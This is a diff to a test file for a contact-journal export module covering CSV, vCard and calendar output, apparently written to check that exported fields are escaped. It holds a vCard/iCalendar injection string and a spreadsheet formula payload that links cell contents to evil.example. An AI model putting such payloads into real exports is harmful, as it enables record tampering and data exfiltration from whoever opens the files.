@@ -3,27 +3,14 @@ import Papa from 'papaparse'
 import { describe, expect, it } from 'vitest'
 import { planImport, readImport, writeCalendar, writePeopleCsv, writeVCards } from '../../../shared/exchange'
 import type { FollowUp, NetworkEvent, Person } from '../../../shared/domain'
+import { personWith } from '../../support/journalBuilder'
 
 const now = new Date('2026-11-29T12:00:00Z')
 const at = now.toISOString()
 const HOSTILE = 'a note\nEND:VCARD\nBEGIN:VCARD\nFN:Injected\nEND:VCALENDAR\nBEGIN:VTODO; with, commas; semicolons \\ and \\; backslashes'
 const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
-const person = (id: string, over: Partial<Person>): Person => ({
-  id,
-  createdAt: at,
-  updatedAt: at,
-  name: id,
-  emails: [],
-  phones: [],
-  links: [],
-  tags: [],
-  howWeMet: {},
-  learned: [],
-  notes: [],
-  archived: false,
-  ...over,
-})
+const person = (id: string, over: Partial<Person>): Person => personWith({ id, name: id, ...over }, at)
 const people: Person[] = [
   person('3f2b8f0e-7c1a-4d2e-9b1f-0a1b2c3d4e5f', {
     name: 'José Núñez',
